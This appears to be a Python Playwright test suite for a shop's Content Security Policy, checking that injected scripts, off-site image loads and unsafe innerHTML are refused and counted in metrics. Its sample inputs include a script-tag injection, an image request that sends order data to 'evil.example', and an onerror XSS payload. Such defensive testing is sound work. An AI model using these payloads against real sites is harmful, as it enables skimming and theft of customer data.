"""What a browser refuses to run in our pages is told to the shop, and counted."""

import requests
from playwright.sync_api import expect

#: What a hole in a template would let in.
SKIMMER = "<script>window.isOwned = true</script>"
LOAD = """() => {
  const picture = document.createElement("img")
  picture.src = "https://evil.example/steal?order=SECRET"
  document.body.append(picture)
}"""


def reports(base_url):
    """The counts of what was refused, as a monitor reads them."""
    figures = requests.get(f"{base_url}/metrics", timeout=10).text
    lines = [line for line in figures.splitlines() if line.startswith("shop_csp_reports{")]
    return {line.split('"')[1]: float(line.split()[-1]) for line in lines}


def rises(page, base_url, directive, before):
    """Wait until the count of a directive has risen."""
    for _ in range(50):
        if reports(base_url).get(directive, 0) > before.get(directive, 0):
            return True
        page.wait_for_timeout(100)
    return False


def test_an_injected_script_is_not_run_but_reported(page, base_url, watch):
    watch.expect("Content Security Policy", "CSP: script-src")
    before = reports(base_url)

    def inject(route):
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", SKIMMER + "</main>"))

    page.route("**/login", inject)
    page.goto("/login")

    assert SKIMMER in page.content()
    assert page.evaluate("window.isOwned") is None
    assert rises(page, base_url, "script-src-elem", before)


def test_what_is_loaded_from_a_stranger_is_refused_and_reported(page, base_url, watch):
    watch.expect("CSP: img-src", "Content Security Policy")
    before = reports(base_url)
    page.goto("/products/mug")
    expect(page.get_by_role("heading", level=1)).to_be_visible()

    page.evaluate(LOAD)

    assert rises(page, base_url, "img-src", before)
    assert watch.strangers.pop().startswith("https://evil.example/")  # asked for, and never sent


def test_what_a_script_of_ours_is_talked_into_is_refused_and_reported(page, base_url, watch):
    watch.expect("TrustedHTML", "CSP: require-trusted-types-for")
    before = reports(base_url)
    page.goto("/login")

    refused = page.evaluate("""() => {
      try {
        document.body.innerHTML = "<img src=x onerror=alert(1)>"
      } catch (error) {
        return error.name
      }
    }""")

    assert refused == "TypeError"
    assert rises(page, base_url, "require-trusted-types-for", before)
